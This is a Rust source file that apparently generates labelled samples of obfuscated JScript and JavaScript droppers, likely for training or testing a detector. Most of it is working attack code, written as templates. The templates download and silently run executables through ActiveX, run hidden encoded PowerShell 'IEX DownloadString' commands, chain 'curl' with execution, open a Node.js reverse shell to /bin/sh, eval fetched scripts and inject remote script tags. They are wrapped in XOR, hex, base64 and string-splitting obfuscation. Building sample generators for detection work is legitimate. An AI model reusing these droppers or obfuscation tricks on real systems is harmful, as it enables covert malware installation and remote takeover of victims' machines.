//! Droppers in JScript, as Windows Script Host runs it, and in JavaScript of pages and Node.js.

use super::{Dice, Truth, base64, codes, hex, reversed, wide, xored};
use std::fmt::Write;

const FILES: &[&str] = &[".exe", ".dll", ".jpg", ".bin", ".txt", ""];

/// An expression of which `text` is the value; `before` gets what must stand in front of it.
fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    let name = dice.name();
    let quoted = |pieces: &[String]| -> Vec<String> {
        pieces.iter().map(|piece| format!("'{piece}'")).collect()
    };
    match dice.below(14) {
        0 => format!("\"{text}\""),
        1 => format!("({})", quoted(&dice.pieces(text)).join(" + ")),
        2 => format!("'{}'.split('').reverse().join('')", reversed(text)),
        3 => format!("String.fromCharCode({})", codes(text.bytes(), ",")),
        4 => {
            let escaped: String = text.bytes().map(|byte| format!("%{byte:02X}")).collect();
            format!("unescape('{escaped}')")
        }
        5 => {
            let escaped: String = text.bytes().map(|byte| format!("\\x{byte:02x}")).collect();
            format!("'{escaped}'")
        }
        6 => {
            let escaped: String = text.bytes().map(|byte| format!("\\u{byte:04x}")).collect();
            format!("'{escaped}'")
        }
        7 => {
            let pieces = dice.pieces(text);
            let order = dice.order(pieces.len());
            let words: Vec<String> = order.iter().map(|at| format!("'{}'", pieces[*at])).collect();
            let _ = writeln!(before, "var {name} = [{}];", words.join(", "));
            let parts: Vec<String> = (0..pieces.len())
                .map(|at| {
                    format!("{name}[{:#x}]", order.iter().position(|o| *o == at).unwrap_or(0))
                })
                .collect();
            parts.join("+")
        }
        8 => {
            let mark = dice.name();
            format!("'{}'.replace(/{mark}/g, '')", dice.littered(text, &mark))
        }
        9 => {
            let mark = dice.mark(text);
            format!("'{}'.split('{mark}').join('')", dice.littered(text, &mark))
        }
        10 => {
            let key = dice.key();
            let _ = writeln!(
                before,
                "function {name}(a, k) {{\n  var r = '';\n  for (var i = 0; i < a.length; i++) {{ r += String.fromCharCode(a[i] ^ k); }}\n  return r;\n}}"
            );
            format!("{name}([{}], {key})", codes(xored(text, key), ","))
        }
        11 => {
            let _ = writeln!(
                before,
                "function {name}(h) {{\n  var r = '';\n  for (var i = 0; i < h.length; i += 2) r += String.fromCharCode(parseInt(h.substr(i, 2), 16));\n  return r;\n}}"
            );
            format!("{name}('{}')", hex(text.as_bytes()))
        }
        12 => {
            let _ = writeln!(
                before,
                "var {name} = function(s) {{\n  var k = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/=';\n  var o = '', a, b, c, d, i = 0;\n  while (i < s.length) {{\n    a = k.indexOf(s.charAt(i++)); b = k.indexOf(s.charAt(i++));\n    c = k.indexOf(s.charAt(i++)); d = k.indexOf(s.charAt(i++));\n    o += String.fromCharCode(a << 2 | b >> 4);\n    if (c != 64) o += String.fromCharCode((b & 15) << 4 | c >> 2);\n    if (d != 64) o += String.fromCharCode((c & 3) << 6 | d);\n  }}\n  return o;\n}};"
            );
            format!("{name}('{}')", base64(text.as_bytes()))
        }
        _ => {
            let pieces = dice.pieces(text);
            let _ = writeln!(before, "var {name} = {{}};");
            let mut words = Vec::new();
            for piece in pieces {
                let key = dice.name();
                let _ = writeln!(before, "{name}['{key}'] = '{piece}';");
                words.push(format!("{name}.{key}"));
            }
            words.join(" + ")
        }
    }
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut text = String::new();
    for _ in 0..1 + dice.below(2) {
        let mut before = String::new();
        let line = delivery(dice, truth, &mut before);
        text.push_str(&before);
        text.push_str(&line);
        if super::ends(&line) {
            break;
        }
    }
    let marked = "var marks = function(x) { return x; };\n";
    match dice.below(9) {
        0 => format!(
            "{marked}eval(unescape('{}'));\n",
            text.bytes().map(|byte| format!("%{byte:02x}")).collect::<String>()
        ),
        1 => format!("{marked}eval(String.fromCharCode({}));\n", codes(text.bytes(), ",")),
        2 => format!("(function() {{\n{text}}})();\n"),
        3 => format!(
            "{marked}new Function(\"{}\")();\n",
            text.bytes().map(|byte| format!("\\x{byte:02x}")).collect::<String>()
        ),
        4 => format!("try {{\n{text}}} catch (e) {{\n}}\n"),
        _ => text,
    }
}

fn delivery(dice: &mut Dice, truth: &mut Truth, before: &mut String) -> String {
    let file = dice.name();
    let var = dice.name();
    match dice.below(15) {
        0 | 1 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            let http = dice.pick(&[
                "MSXML2.XMLHTTP",
                "Microsoft.XMLHTTP",
                "MSXML2.ServerXMLHTTP",
                "WinHttp.WinHttpRequest.5.1",
            ]);
            format!(
                "var {var} = new ActiveXObject('{http}');\n{var}.open('GET', {url}, false);\n{var}.send();\nif ({var}.status == 200) {{\n  var st = new ActiveXObject('ADODB.Stream');\n  st.Open();\n  st.Type = 1;\n  st.Write({var}.ResponseBody);\n  st.Position = 0;\n  var path = new ActiveXObject('WScript.Shell').ExpandEnvironmentStrings('%TEMP%') + '\\\\{file}.exe';\n  st.SaveToFile(path, 2);\n  st.Close();\n  new ActiveXObject('WScript.Shell').Run(path, 0, false);\n}}\n"
            )
        }
        2 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "var sh = WScript.CreateObject('WScript.Shell');\nsh.Run('powershell -w hidden -c \"(New-Object Net.WebClient).DownloadFile(\\'' + {url} + '\\',\\'C:\\\\Users\\\\Public\\\\{file}.exe\\')\"', 0, true);\n"
            )
        }
        3 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "var {var} = {url};\nnew ActiveXObject('Shell.Application').ShellExecute('cmd.exe', '/c curl -o %TEMP%\\\\{file}.exe ' + {var} + ' && %TEMP%\\\\{file}.exe', '', 'open', 0);\n"
            )
        }
        4 => {
            let urls: Vec<String> =
                (0..2 + dice.below(3)).map(|_| truth.url(dice, FILES)).collect();
            let words: Vec<String> = urls.iter().map(|url| hide(dice, url, before)).collect();
            format!(
                "var {var} = [{}];\nfor (var i = 0; i < {var}.length; i++) {{\n  try {{\n    var x = new ActiveXObject('MSXML2.XMLHTTP');\n    x.open('GET', {var}[i], 0);\n    x.send(null);\n  }} catch (e) {{ }}\n}}\n",
                words.join(", ")
            )
        }
        5 => {
            let url = truth.url(dice, &[".php", "", ".html"]);
            let url = hide(dice, &url, before);
            format!("function {var}() {{\n  return {url};\n}}\nwindow.location.href = {var}();\n")
        }
        6 => {
            let url = truth.url(dice, &[".js"]);
            let url = hide(dice, &url, before);
            format!(
                "var {var} = document.createElement('script');\n{var}.src = {url};\ndocument.getElementsByTagName('head')[0].appendChild({var});\n"
            )
        }
        7 => {
            let url = truth.url(dice, &[".js"]);
            let url = hide(dice, &url, before);
            format!("document.write('<script src=\"' + {url} + '\"></scr' + 'ipt>');\n")
        }
        8 => {
            let url = truth.url(dice, &["", ".sh", ".bin"]);
            let url = hide(dice, &url, before);
            format!(
                "var {{ exec }} = require('child_process');\nvar {var} = {url};\nexec('curl -fsSL ' + {var} + ' -o /tmp/{file} && sh /tmp/{file}', (err, out) => {{ return out; }});\n"
            )
        }
        9 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "var fs = require('fs');\nvar http = require('http');\nhttp.get({url}, function (res) {{\n  const out = fs.createWriteStream('/tmp/{file}');\n  res.pipe(out);\n}});\n"
            )
        }
        10 => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "var {var} = new XMLHttpRequest();\n{var}.open('POST', {url}, true);\n{var}.setRequestHeader('Content-type', 'application/x-www-form-urlencoded');\n{var}.send('a=1');\n"
            )
        }
        11 => {
            let url = truth.url(dice, &[".json", "", ".txt"]);
            let url = hide(dice, &url, before);
            format!(
                "fetch({url}).then(function (r) {{ return r.text(); }}).then(function (t) {{ eval(t); }});\n"
            )
        }
        12 => {
            let url = truth.url(dice, &[".ps1", ".txt"]);
            let line = format!("IEX (New-Object Net.WebClient).DownloadString('{url}')");
            let code = base64(&wide(&line));
            let code = hide(dice, &code, before);
            format!(
                "var {var} = new ActiveXObject('WScript' + '.Shell');\n{var}['R' + 'un']('powershell -nop -w hidden -enc ' + {code}, 0);\n"
            )
        }
        13 => {
            let (host, port) = truth.endpoint(dice);
            let host = hide(dice, &host, before);
            format!(
                "(function () {{\n  var net = require('net'), cp = require('child_process'), sh = cp.spawn('/bin/sh', []);\n  var client = new net.Socket();\n  client.connect({port}, {host}, function () {{\n    client.pipe(sh.stdin);\n    sh.stdout.pipe(client);\n  }});\n}})();\n"
            )
        }
        _ => {
            let url = truth.url(dice, FILES);
            let url = hide(dice, &url, before);
            format!(
                "var {var} = {{\n  go: function (u) {{\n    var o = this['mk']('MSXML2.XMLHTTP');\n    o['open']('GET', u, false);\n    o['send']();\n    return o['responseText'];\n  }},\n  mk: function (n) {{ return new ActiveXObject(n); }}\n}};\nswitch (typeof {var}) {{\n  case 'object': {var}.go({url}); break;\n  default: break;\n}}\n"
            )
        }
    }
}
